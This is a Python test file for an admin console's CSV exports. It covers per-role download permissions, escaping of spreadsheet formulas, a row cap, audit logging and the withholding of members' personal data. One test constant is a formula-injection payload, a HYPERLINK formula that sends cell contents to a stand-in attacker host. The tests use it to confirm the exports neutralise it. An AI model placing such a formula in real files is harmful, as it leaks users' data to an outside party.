"""Analysts' CSV exports: who may download which, formula injection neutralised, the row
cap, the audit record, and members' personal data only for roles that may see it."""
from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from sqlalchemy import select

from console import create_app
from console.exports import EXPORTS, WITHHELD, safe_cell
from foundation import db
from foundation.audit.models import AuditEvent
from foundation.staff.permissions import Role, permissions_of
from tests.builders.world import seed_world
from tests.helpers import signed_in

PERIOD = {"from": "2025-01-01", "to": "2025-12-31"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_cells_that_would_start_a_formula_are_shown_as_text(value):
    assert safe_cell(value) == "'" + value


def test_plain_values_pass_unchanged():
    assert [safe_cell(v) for v in ("saree", 42, -5, None, "a=b")] == \
        ["saree", 42, -5, None, "a=b"]


@pytest.mark.parametrize("role", [role.value for role in Role])
def test_each_role_downloads_exactly_the_exports_its_permissions_allow(app, staff, role):
    client = app.test_client()
    signed_in(client, staff, role)
    for name, export in EXPORTS.items():
        response = client.get(f"/console/exports/{name}.csv", query_string=PERIOD)
        allowed = export.permission in permissions_of(role)
        assert response.status_code == (200 if allowed else 403), (role, name)
    page = client.get("/console/exports/").get_data(as_text=True)
    for name, export in EXPORTS.items():
        assert (f"/console/exports/{name}.csv" in page) == \
            (export.permission in permissions_of(role))


def test_the_dispute_export_neutralises_formulas_and_is_audited(app, staff):
    world = seed_world(text=FORMULA)
    client = app.test_client()
    lead = signed_in(client, staff, "support_lead")
    response = client.get("/console/exports/dispute_cases.csv", query_string=PERIOD)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    [case] = rows_of(response)
    assert int(case["id"]) == world.case_id
    assert case["description"] == "'" + FORMULA
    audit = db.session().scalars(select(AuditEvent).where(
        AuditEvent.action == "export.csv")).all()
    assert [(a.actor_id, a.object_id, a.after["rows"], a.after["personal_data"])
            for a in audit] == [(lead, "dispute_cases", 1, True)]


def test_members_personal_data_is_withheld_from_analysts(app, staff):
    seed_world(text="asha@example.in, 12 MG Road")
    client = app.test_client()
    signed_in(client, staff, "fraud_analyst")
    [case] = rows_of(client.get("/console/exports/dispute_cases.csv", query_string=PERIOD))
    assert case["description"] == WITHHELD
    trail = rows_of(client.get("/console/exports/audit_trail.csv",
                               query_string={"from": "2000-01-01", "to": "2100-01-01"}))
    assert trail, "the analyst's own sign-in is in the trail"
    assert {row["ip"] for row in trail} == {WITHHELD}
    assert {row["actor_label"] for row in trail} == {WITHHELD}


def test_a_period_with_more_rows_than_the_cap_is_refused_not_cut_short(settings, staff):
    app = create_app(dataclasses.replace(settings, EXPORT_MAX_ROWS=1))
    signed_in(app.test_client(), staff, "support_lead")
    client = app.test_client()
    signed_in(client, staff, "admin")
    wide = {"from": "2000-01-01", "to": "2100-01-01"}
    response = client.get("/console/exports/audit_trail.csv", query_string=wide)
    assert response.status_code == 422
    assert "choose a shorter period" in response.get_data(as_text=True)
    audit = db.session().scalars(select(AuditEvent).where(
        AuditEvent.action == "export.csv")).all()
    assert audit == []


def test_a_malformed_period_is_a_clear_refusal(app, staff):
    client = app.test_client()
    signed_in(client, staff, "admin")
    assert client.get("/console/exports/audit_trail.csv",
                      query_string={"from": "yesterday"}).status_code == 422
    assert client.get("/console/exports/audit_trail.csv",
                      query_string={"from": "2025-02-01", "to": "2025-01-01"}).status_code == 422
